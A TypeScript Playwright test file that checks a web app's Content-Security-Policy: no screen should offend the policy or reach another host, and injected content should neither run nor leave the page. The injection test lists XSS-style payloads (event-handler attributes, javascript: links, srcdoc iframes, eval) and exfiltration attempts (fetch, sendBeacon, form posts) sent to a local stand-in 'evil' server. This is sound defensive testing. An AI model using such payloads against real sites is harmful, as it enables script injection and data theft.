import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Page } from '@playwright/test'
import { MENU } from '#renderer/shell/menu.ts'
import { expect, test } from './mortise.ts'
import { goTo } from './screens.ts'

// The page's Content-Security-Policy: nothing that Mortise does offends it, and nothing that somebody slips into a page gets past it.
type Witness = { __offences?: string[]; __ran?: string }
const SCREENS = [...MENU.flatMap(group => group.places.map(place => place.path)), '/recovery', '/packs/new', '/visits/new', '/exchange?view=offices', '/registers/equipment?id=new', '/board?rows=equipment', '/nowhere']

/** Writes down what the browser reports, from before the first script of the page. */
async function watch(page: Page): Promise<void> {
  await page.addInitScript(() => {
    const witness = window as Witness
    witness.__offences = []
    document.addEventListener('securitypolicyviolation', e => witness.__offences!.push(`${e.effectiveDirective} ${e.blockedURI} ${e.sourceFile}:${e.lineNumber}`))
  })
}
const offences = (page: Page) => page.evaluate(() => (window as Witness).__offences ?? ['not watched'])

for (const college of ['nothing', 'college'] as const) {
  test.describe(college, () => {
    test.use({ college })
    test('no screen offends the policy or asks for anything but its own host', async ({ page, host }) => {
      test.setTimeout(240_000)
      const asked: string[] = []
      page.on('request', request => asked.push(request.url()))
      await watch(page)
      await page.goto(host.link)
      await expect(page.getByRole('main').first()).toBeVisible()
      for (const path of college === 'nothing' ? ['/today'] : SCREENS) {
        await goTo(page, path)
        await expect(page.locator('[aria-busy=true], .ant-spin-spinning')).toHaveCount(0)
      }
      expect(await offences(page)).toEqual([])
      expect(asked.length).toBeGreaterThan(10)
      expect(asked.filter(url => !url.startsWith(`${host.origin}/`) && !/^(data|blob):/.test(url))).toEqual([])
    })
  })
}

test.describe('what is slipped into a page', () => {
  test.use({ college: 'small' })
  test('neither runs nor leaves', async ({ page, host }) => {
    const hits: string[] = []
    const evil = createServer((request, response) => {
      hits.push(`${request.method} ${request.url}`)
      response.writeHead(200, { 'Access-Control-Allow-Origin': '*', 'Content-Type': 'text/javascript' }).end('window.__ran = "remote"')
    })
    await new Promise<void>(done => evil.listen(0, '127.0.0.1', done))
    const away = `http://127.0.0.1:${(evil.address() as AddressInfo).port}`
    await watch(page)
    await page.goto(host.link)
    await expect(page.getByRole('main').first()).toBeVisible()
    const before = page.url()

    const tries = await page.evaluate(async to => {
      const witness = window as Witness
      const add = (html: string) => document.body.insertAdjacentHTML('beforeend', html)
      const script = (fill: (s: HTMLScriptElement) => void) => {
        const made = document.createElement('script')
        fill(made)
        document.body.append(made)
      }
      const later = (act: () => unknown) => void Promise.resolve().then(() => new Promise(done => setTimeout(done, 0))).then(act).catch(() => undefined)
      const attempts: (() => unknown)[] = [
        () => script(s => (s.textContent = 'window.__ran = "inline"')),
        () => script(s => (s.src = `${to}/script.js`)),
        () => script(s => (s.src = 'data:text/javascript,window.__ran="data"')),
        () => script(s => (s.src = URL.createObjectURL(new Blob(['window.__ran="blob"'], { type: 'text/javascript' })))),
        () => add('<img src="data:image/png;base64,x" onerror="window.__ran=\'handler\'">'),
        () => add('<svg><animate onbegin="window.__ran=\'svg\'" attributeName="x" dur="1s"></svg>'),
        () => add('<details open ontoggle="window.__ran=\'toggle\'"><summary>x</summary></details>'),
        () => add('<a id="evil-link" href="javascript:window.__ran=\'link\'">x</a>'),
        () => document.getElementById('evil-link')?.click(),
        () => add('<iframe srcdoc="<script>parent.__ran=\'srcdoc\'</script>"></iframe>'),
        () => add(`<iframe src="${to}/frame"></iframe>`),
        () => add('<iframe src="data:text/html,<script>1</script>"></iframe>'),
        () => add(`<img src="${to}/image.png">`),
        () => add(`<link rel="stylesheet" href="${to}/style.css"><link rel="prefetch" href="${to}/prefetch"><link rel="icon" href="${to}/icon.png">`),
        () => add(`<style>@import url("${to}/import.css"); body { background: url("${to}/background.png") }</style>`),
        () => add(`<object data="${to}/object"></object><embed src="${to}/embed"><video src="${to}/video"></video>`),
        () => add(`<base href="${to}/">`),
        () => add(`<form id="evil-form" method="post" action="${to}/form"><input name="x" value="secret"></form>`),
        () => (document.getElementById('evil-form') as HTMLFormElement).submit(),
        () => fetch(`${to}/fetch`, { method: 'POST', mode: 'no-cors', body: 'secret' }).catch(() => undefined),
        () => navigator.sendBeacon(`${to}/beacon`, 'secret'),
        () => new WebSocket(to.replace('http', 'ws')),
        () => new EventSource(`${to}/events`),
        () => new Worker(URL.createObjectURL(new Blob(['1'], { type: 'text/javascript' }))),
        // outside of this call, to which the browser's own tools lend the right to evaluate
        () => setTimeout('window.__ran = "timeout"' as never, 0),
        // oxlint-disable-next-line no-eval -- that it is refused is what is tested
        () => later(() => (0, eval)('window.__ran = "eval"')),
        () => later(() => new Function('window.__ran = "function"')()),
      ]
      for (const attempt of attempts) {
        try {
          attempt()
        } catch {
          continue // refused on the spot
        }
      }
      await new Promise(done => setTimeout(done, 1500))
      return { tried: attempts.length, ran: witness.__ran ?? 'nothing', offences: witness.__offences!.length }
    }, away)
    evil.close()
    expect(tries.ran).toBe('nothing')
    expect(hits).toEqual([])
    expect(tries.offences).toBeGreaterThan(tries.tried / 2) // the attempts were real ones: the browser reports what it stopped
    expect(page.url()).toBe(before)
  })
})
